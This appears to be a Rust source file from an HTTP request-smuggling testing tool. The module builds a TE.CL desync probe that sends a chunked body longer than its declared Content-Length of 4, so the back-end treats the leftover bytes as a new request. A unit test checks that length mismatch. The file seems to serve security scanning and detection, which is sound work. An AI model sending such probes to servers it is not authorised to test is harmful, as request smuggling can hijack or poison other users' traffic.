use desynctrace_protocol::{HttpVersion, Request};

use crate::common::templated;

/// Front-end trusts `Transfer-Encoding`, back-end trusts `Content-Length`.
/// The declared length is deliberately shorter than the chunked body, so the
/// back-end stops reading mid-chunk and treats the remainder as the start of
/// the next request.
pub fn generate(base: &Request) -> Vec<Request> {
    let body = b"8\r\nSMUGGLED\r\n0\r\n\r\n".to_vec();
    let mut req = templated(base, "POST", HttpVersion::Http1);
    req.transfer_encoding = Some("chunked".to_string());
    req.content_length = 4;
    req.body = body;
    vec![req]
}

pub use crate::common::suspicious as verify;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn declares_a_shorter_content_length_than_the_body() {
        let base = Request::new("GET", "http://example.com/", HttpVersion::Http1);
        let payload = &generate(&base)[0];
        assert_eq!(payload.content_length, 4);
        assert!((payload.content_length as usize) < payload.body.len());
    }
}
